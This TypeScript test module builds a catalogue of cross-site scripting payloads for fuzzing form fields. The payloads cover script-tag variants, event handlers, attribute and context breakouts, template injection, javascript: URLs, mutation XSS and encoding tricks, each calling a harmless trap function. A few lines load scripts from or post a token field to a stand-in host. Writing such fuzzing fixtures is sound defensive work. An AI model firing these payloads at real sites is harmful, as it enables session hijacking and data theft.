import { deep } from './words.ts'

/** Reading `window.pw` calls the trap, so that even the shortest payloads can trigger it. */
const image = '<img src=x onerror=pw()>'
const vector = '<svg onload=pw()>'

const each = <A, B>(first: readonly A[], second: readonly B[], make: (a: A, b: B) => string): string[] =>
  first.flatMap((a) => second.map((b) => make(a, b)))

const scripts = [
  '<script>pw()</script>',
  '<ScRiPt>pw()</sCrIpT>',
  '<script\n>pw()</script\n>',
  '<script/x>pw()</script x>',
  '<script>pw``</script>',
  '<script>pw()',
  '<script type=module>pw()</script>',
  '<script src=data:,pw()></script>',
  '<script src=//x.invalid/pw.js></script>',
  "<script>eval(atob('cHcoKQ=='))</script>",
  '<scr<script>ipt>pw()</scr</script>ipt>',
]

const triggers = [
  ['img src=x', 'error'],
  ['img src=/favicon.svg', 'load'],
  ['svg', 'load'],
  ['video src=x', 'error'],
  ['video><source', 'error'],
  ['audio src=x', 'error'],
  ['details open', 'toggle'],
  ['body', 'pageshow'],
  ['select autofocus', 'focus'],
  ['iframe', 'load'],
  ['object data=x', 'error'],
  ['link rel=stylesheet href=x', 'error'],
  ['p tabindex=0', 'pointerover'],
  ['a href=#', 'click'],
] as const
const handlers = each(
  triggers,
  [
    (element: string, event: string) => `<${element} on${event}=pw()>`,
    (element: string, event: string) => `<${element} on${event}="pw()">x`,
    (element: string, event: string) => `<${element.toUpperCase().replaceAll(' ', '/')}/ON${event}='pw()'/>`,
    (element: string, event: string) => `<${element}\ton${event}\n=\n&#112;w&lpar;&rpar;>`,
  ],
  ([element, event], spell) => spell(element, event),
)

const ends = [
  '">',
  "'>",
  '-->',
  ']]>',
  '</title>',
  '</style>',
  '</script>',
  '</textarea>',
  '</noscript>',
  '</option></select>',
]
const closings = each(ends, [vector, '<script>pw()</script>'], (end, rest) => `${end}${rest}`)

const attributes = [
  '" onfocus=pw() autofocus x="',
  "' onfocus=pw() autofocus x='",
  '"onpointerover="pw()',
  "'onpointerover='pw()",
  'x onerror=pw()',
  '` onerror=`pw()',
  '" style="x:expression(pw())',
  '" srcdoc="<script>parent.pw()</script>',
]

const code = [
  '";pw();//',
  "';pw();//",
  '`;pw();//',
  '\\";pw();//',
  '"-pw()-"',
  '${pw()}',
  '"}];pw();[{"',
  '</script><script>pw()//',
  '{"__proto__":{"innerHTML":"<img src=x onerror=pw()>"}}',
  '{"dangerouslySetInnerHTML":{"__html":"<svg onload=pw()>"}}',
  '*/pw()/*',
]

const templates = [
  '{{7*7}}',
  '{{pw()}}',
  "{{constructor.constructor('pw()')()}}",
  '#{pw()}',
  '<%= pw() %>',
  '{%pw()%}',
  '[[${pw()}]]',
  // Syntax that the interpolation of texts might take for its own.
  '{{text}}{{name}}{text}{name}',
  '$t(retry)',
  "$&$1$$$`$'",
  '<1>pw()</1>',
]

const schemes = ['javascript:pw()', 'java\tscript:pw()', '&#106;avascript:pw()', 'data:text/html,<script>pw()</script>']
const urls = each(
  schemes,
  [
    (url: string) => url,
    (url: string) => `<a href="${url}">x</a>`,
    (url: string) => `<iframe src="${url}">`,
    (url: string) => `<form action="${url}"><button>x`,
    (url: string) => `<meta http-equiv=refresh content="0;url=${url}">`,
    (url: string) => `<svg><a xlink:href="${url}"><text>x`,
    (url: string) => `[x](${url})`,
  ],
  (url, carry) => carry(url),
)
const elsewhere = [
  '<base href=//x.invalid/>',
  '<meta http-equiv=refresh content=0;//x.invalid>',
  '<iframe srcdoc="<script>parent.pw()</script>">',
  '<iframe srcdoc="&lt;script&gt;parent.pw()&lt;/script&gt;">',
  '<form action=//x.invalid><input name=token>',
  '<object data="data:text/html,<script>pw()</script>">',
  '<embed src=//x.invalid/pw.swf>',
]

/** Mutation XSS: what a sanitiser may turn into something else, and what hides in other languages within HTML. */
const mutations = [
  '<math><mtext><table><mglyph><style><img src=x onerror=pw()>',
  '<svg></p><style><a id="</style><img src=x onerror=pw()>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=pw()>',
  '<noscript><p title="</noscript><img src=x onerror=pw()>">',
  '<xmp><p title="</xmp><img src=x onerror=pw()>">',
  '<svg><style><img src=x onerror=pw()></style></svg>',
  '<svg><script>pw&lpar;)</script>',
  '<svg><animate onbegin=pw() attributeName=x dur=1s>',
  '<svg><foreignObject><body onload=pw()>',
  '<math><maction actiontype=statusline xlink:href=javascript:pw()>x',
  '<template><script>pw()</script></template>',
  '<form name=body><input name=pw>',
]

const styles = [
  '<style>*{background:url(//x.invalid)}</style>',
  "<style>@import'//x.invalid/pw.css'</style>",
  '<p style="x:expression(pw())">',
  '<p style="background:url(javascript:pw())">',
  '<style onload=pw()>',
]

const coded = (text: string, code: (unit: number) => string): string =>
  text.replaceAll(/[<>=()]/g, (mark) => code(mark.charCodeAt(0)))
const encodings = [
  '&lt;img src=x onerror=pw()&gt;',
  '&amp;lt;img src=x onerror=pw()&amp;gt;',
  coded(image, (unit) => `&#${unit};`),
  coded(image, (unit) => `&#x${unit.toString(16)}`),
  coded(image, (unit) => `&#0000${unit}`),
  coded(image, (unit) => `\\u00${unit.toString(16)}`),
  coded(image, (unit) => `\\x${unit.toString(16)}`),
  encodeURIComponent(image),
  encodeURIComponent(encodeURIComponent(vector)),
  coded(image, (unit) => String.fromCharCode(unit + 0xfee0)),
  '+ADw-script+AD4-pw()+ADw-/script+AD4-',
]

/** Null bytes, unusual blanks, marks that reverse the direction of text. */
const oddities = [
  '<scr\0ipt>pw()</scr\0ipt>',
  '<img\0src=x\0onerror=pw()>',
  'java\0script:pw()',
  '<img\fsrc=x\fonerror=pw()>',
  '<img\r\nsrc=x\r\nonerror=pw()>',
  '<img\u00a0src=x\u2028onerror=pw()>',
  '<svg\u000bonload=pw()>x',
  'x\u202e<svg onload=pw()>\u202cx',
  'x\u2066<img src=x onerror=pw()>\u2069x',
  'x\ufeff<\u200bscript>pw()</script\u200d>',
  '\u001b[31m<svg onload=pw()>\u001b[0mx',
]

/** For fields with a very short limit. */
const short = [
  '<svg onload=pw>',
  '<svg/onload=pw>',
  '<p onclick=pw>x',
  '<base href=//x>',
  '<plaintext>',
  '<!--',
  '<textarea>',
  '</title>',
  '"onload=pw()>',
]

const families = [
  short,
  scripts,
  handlers,
  closings,
  attributes,
  code,
  templates,
  urls,
  elsewhere,
  mutations,
  styles,
  encodings,
  oddities,
]

export const payloads: readonly string[] = families.flat()
export const inUse: readonly string[] = deep
  ? payloads
  : families.flatMap((family) => family.filter((_, place) => place % 8 === 0))

/** As many in one text as fit the limit, separated by blanks; one that does not fit at all is left out. */
export const packed = (limit: number, fits = (_payload: string): boolean => true): string[] => {
  const packs: string[] = []
  for (const payload of inUse.filter((each) => each.length <= limit && fits(each))) {
    const longer = `${packs.at(-1) ?? ''} ${payload}`
    if (packs.length > 0 && longer.length <= limit) packs[packs.length - 1] = longer
    else packs.push(payload)
  }
  return packs
}

/** For a nickname. */
export const names = inUse.filter(({ length }) => length <= 15)
/** For the receiver of a parcel. */
export const receivers = packed(20)
/** For an address, an entry, an invoice or a search. */
export const lines = packed(100)
/** For what buyers and shops tell each other. */
export const messages = packed(200)
/** For fields that keep a single line, or normalise line ends. */
export const isLine = (text: string): boolean => !/[\r\n]/.test(text)
export const at = (texts: readonly string[], place: number): string => texts[place % texts.length] ?? ''
